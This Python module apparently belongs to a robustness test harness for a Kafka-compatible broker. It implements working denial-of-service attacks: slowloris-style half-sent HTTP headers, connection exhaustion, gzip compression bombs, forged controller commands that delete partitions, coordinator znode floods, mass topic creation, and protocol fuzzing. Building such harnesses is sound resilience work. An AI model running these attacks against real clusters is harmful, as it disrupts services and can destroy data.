"""Attacks, each a function that runs for a given time: ``python attackers.py NAME TARGET_JSON SECONDS SEED``.

Attacks run in their own process at a low priority, because a real attacker uses another machine.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random
from typing import Any

from extreme_values import extreme_message

from kreplica.wire import messages
from kreplica.wire.batch_building import build_batch, seal
from kreplica.wire.batches import parse_header
from kreplica.wire.headers import build_request_header
from kreplica.wire.messages import APIS, Api
from kreplica.wire.records import Record
from kreplica.zookeeper.records import ConnectRequest, frame, request_frame
from kreplica.zookeeper.requests import Create, opcode_of

FRAME_MAX = 100 << 20
EPOCH_MAX = 2**31 - 1
CREATED_PREFIX = "created-"


@dataclass(frozen=True, slots=True)
class Target:
    """The addresses and topics that an attack uses.

    :param topic: an existing topic with three replicas.
    :param compacted: an existing compacted topic.
    """

    host: str
    port: int
    admin_port: int
    coordinator_port: int
    topic: str
    compacted: str


@dataclass(frozen=True, slots=True)
class Clock:
    """The time at which an attack ends."""

    deadline_s: float

    @property
    def runs(self) -> bool:
        return time.monotonic() < self.deadline_s


Attack = Callable[[Target, Clock, Random], None]


def _frame(api: Api, version: int, body: bytes, client_id: str = "attacker") -> bytes:
    header = bytes(build_request_header(api.request_header_version(version), api.key, version, 1, client_id))
    return struct.pack(">i", len(header) + len(body)) + header + body


@contextlib.contextmanager
def _connect(port: int, host: str, timeout_s: float = 20.0) -> Iterator[socket.socket]:
    with socket.create_connection((host, port), timeout=timeout_s) as connection:
        yield connection


def _exchange(target: Target, data: bytes) -> None:
    """Send one frame, and read until the response ends, the connection closes, or 20 s pass."""
    with contextlib.suppress(OSError), _connect(target.port, target.host) as connection:
        connection.sendall(data)
        size = b""
        while len(size) < 4 and (more := connection.recv(4 - len(size))):
            size += more
        left = struct.unpack(">i", size)[0] if len(size) == 4 else 0
        while left > 0 and (more := connection.recv(min(left, 1 << 20))):
            left -= len(more)


def nothing(target: Target, clock: Clock, random: Random) -> None:
    """No attack: the baseline of the honest client's measurements on this machine."""
    while clock.runs:
        time.sleep(0.1)


def large_metadata(target: Target, clock: Clock, random: Random) -> None:
    """S1: metadata requests for hundreds of thousands of topics that do not exist."""
    names = [{"name": f"{number:05x}"} for number in range(900_000)]
    body = {"topics": names, "allow_auto_topic_creation": False}
    data = _frame(messages.METADATA, 4, messages.METADATA.request.build(4, body))
    while clock.runs:
        _exchange(target, data)


def partial_frames(target: Target, clock: Clock, random: Random) -> None:
    """S2: six connections, each with most of a 100 MiB request, and one more byte every two seconds."""
    connections: list[socket.socket] = []
    body = bytes(95 << 20)
    while clock.runs:
        while len(connections) < 6:
            with contextlib.suppress(OSError):
                one = socket.create_connection((target.host, target.port), timeout=20)
                one.sendall(struct.pack(">i", FRAME_MAX) + struct.pack(">hhih", 0, 8, 1, -1))
                one.settimeout(1.0)
                with contextlib.suppress(OSError):
                    one.sendall(body)
                connections.append(one)
        time.sleep(2)
        for one in list(connections):
            try:
                one.send(b"\0")
            except TimeoutError:
                continue
            except OSError:
                connections.remove(one)
                one.close()


def forged_controller_commands(target: Target, clock: Clock, random: Random) -> None:
    """S4: the controller's commands with the highest possible epoch."""
    states = [{"topic_name": target.topic, "partition_index": p, "delete_partition": True} for p in range(3)]
    topics = [{"topic_name": target.topic, "partition_states": states}]
    stop = {"controller_id": 1, "controller_epoch": EPOCH_MAX, "broker_epoch": -1, "topic_states": topics}
    update = {"controller_id": 1, "controller_epoch": EPOCH_MAX, "broker_epoch": -1, "topic_states": [],
              "live_brokers": []}  # fmt: skip
    while clock.runs:
        for api, version, body in ((messages.STOP_REPLICA, 3, stop), (messages.UPDATE_METADATA, 6, update)):
            _exchange(target, _frame(api, version, api.request.build(version, body)))
        time.sleep(0.05)


def large_groups(target: Target, clock: Clock, random: Random) -> None:
    """S5: a hundred groups, each with 20 MB of member metadata."""
    metadata = bytes(20 << 20)
    number = 0
    while clock.runs:
        body = {
            "group_id": f"large-{number % 100}",
            "session_timeout_ms": 300_000,
            "rebalance_timeout_ms": 300_000,
            "member_id": "",
            "protocol_type": "consumer",
            "protocols": [{"name": "range", "metadata": metadata}],
        }
        _exchange(target, _frame(messages.JOIN_GROUP, 3, messages.JOIN_GROUP.request.build(3, body)))
        number += 1


def _produce(target: Target, topic: str, records: bytes) -> None:
    body = {
        "transactional_id": None,
        "acks": 1,
        "timeout_ms": 1000,
        "topic_data": [{"name": topic, "partition_data": [{"index": 0, "records": records}]}],
    }
    _exchange(target, _frame(messages.PRODUCE, 8, messages.PRODUCE.request.build(8, body)))


def compression_bombs(target: Target, clock: Clock, random: Random) -> None:
    """S6: batches of half a megabyte that decompress to half a gigabyte, for a compacted topic, whose keys are read."""
    bomb = _compressed(1, gzip.compress(bytes(500 << 20), 9))
    while clock.runs:
        _produce(target, target.compacted, bomb)
        _produce(target, target.topic, bomb)


def compressed_garbage(target: Target, clock: Clock, random: Random) -> None:
    """S7: random bytes marked as compressed, and snappy data with a declared size of two gibibytes."""
    while clock.runs:
        codec = random.randint(1, 4)
        data = random.randbytes(random.choice([0, 1, 18, 500]))
        if random.random() < 0.3:
            codec, data = 2, b"\xff\xff\xff\xff\x07" + data
        _produce(target, target.topic, _compressed(codec, data))


def _compressed(codec: int, payload: bytes) -> bytes:
    """Return one batch of one record with this payload and a valid checksum."""
    header = parse_header(build_batch([Record(0, 0, None, b"x")]))
    return seal(header._replace(attributes=codec), payload)


def coordinator_flood(target: Target, clock: Clock, random: Random) -> None:
    """S9: znodes of a megabyte each in the embedded coordinator, created as fast as possible."""
    data = bytes(1_000_000)
    while clock.runs:
        with contextlib.suppress(OSError, EOFError), _connect(target.coordinator_port, target.host) as connection:
            connection.sendall(frame(ConnectRequest(0, 30_000, 0, bytes(16)).encode()))
            connection.recv(1000)
            for number in range(500):
                if not clock.runs:
                    return
                create = Create(f"/flood-{random.getrandbits(60)}", data)
                connection.sendall(request_frame(number + 1, opcode_of(create), create.encode()))
                if not connection.recv(1000):
                    break


def half_sent_http(target: Target, clock: Clock, random: Random) -> None:
    """S11: more than a thousand HTTP requests whose headers never end."""
    connections: list[socket.socket] = []
    while clock.runs:
        while len(connections) < 1100 and clock.runs:
            try:
                one = socket.create_connection((target.host, target.admin_port), timeout=2)
                one.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
                connections.append(one)
            except OSError:
                break
        time.sleep(1)
        for one in list(connections):
            try:
                one.send(b"x")
            except OSError:
                connections.remove(one)
                one.close()


def auto_creation(target: Target, clock: Clock, random: Random) -> None:
    """S12: metadata requests that create thousands of topics."""
    while clock.runs:
        names = [{"name": f"{CREATED_PREFIX}{random.getrandbits(60):x}"} for _ in range(3000)]
        body = {"topics": names, "allow_auto_topic_creation": True}
        _exchange(target, _frame(messages.METADATA, 4, messages.METADATA.request.build(4, body)))


def slow_readers(target: Target, clock: Clock, random: Random) -> None:
    """Clients that repeatedly request all metadata and records, and never read a response."""
    ask = _frame(messages.METADATA, 4, messages.METADATA.request.build(4, {"topics": None}))
    connections: list[socket.socket] = []
    while clock.runs:
        while len(connections) < 200:
            one = socket.create_connection((target.host, target.port), timeout=5)
            one.setblocking(False)
            connections.append(one)
        for one in list(connections):
            try:
                one.send(ask * 50)
            except BlockingIOError:
                continue
            except OSError:
                connections.remove(one)
                one.close()
        time.sleep(0.1)


def half_open(target: Target, clock: Clock, random: Random) -> None:
    """A thousand connections that send half of a length field."""
    connections: list[socket.socket] = []
    while clock.runs:
        with contextlib.suppress(OSError):
            while len(connections) < 1000:
                one = socket.create_connection((target.host, target.port), timeout=5)
                one.sendall(b"\0\0")
                connections.append(one)
        time.sleep(0.5)


def random_bytes(target: Target, clock: Clock, random: Random) -> None:
    """Frames of random bytes, some with a valid header."""
    while clock.runs:
        noise = random.randbytes(random.choice([1, 100, 10_000, 1_000_000]))
        api = random.choice(list(APIS.values()))
        version = random.choice(range(api.versions[0], api.versions[1] + 1))
        data = _frame(api, version, noise) if random.random() < 0.8 else struct.pack(">i", len(noise)) + noise
        _exchange_quickly(target, data)


def extreme_requests(target: Target, clock: Clock, random: Random) -> None:
    """Valid requests of every API with extreme values: large arrays, long names, largest and smallest numbers."""
    apis = [api for api in APIS.values() if api is not messages.CONTROLLED_SHUTDOWN]
    while clock.runs:
        api = random.choice(apis)
        version = random.choice(range(api.versions[0], api.versions[1] + 1))
        try:
            body = api.request.build(version, extreme_message(api.request, version, random))
        except ValueError:
            continue
        _exchange_quickly(target, _frame(api, version, body))


def _exchange_quickly(target: Target, data: bytes) -> None:
    with contextlib.suppress(OSError), _connect(target.port, target.host, 0.3) as connection:
        connection.sendall(data)
        connection.recv(1 << 16)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        nothing,
        large_metadata,
        partial_frames,
        forged_controller_commands,
        large_groups,
        compression_bombs,
        compressed_garbage,
        coordinator_flood,
        half_sent_http,
        auto_creation,
        slow_readers,
        half_open,
        random_bytes,
        extreme_requests,
    )
}


def main(name: str, target: str, seconds: str, seed: str) -> None:
    """Run one attack."""
    os.nice(10)
    values: dict[str, Any] = json.loads(target)
    ATTACKS[name](Target(**values), Clock(time.monotonic() + float(seconds)), Random(int(seed)))


if __name__ == "__main__":
    main(*sys.argv[1:])
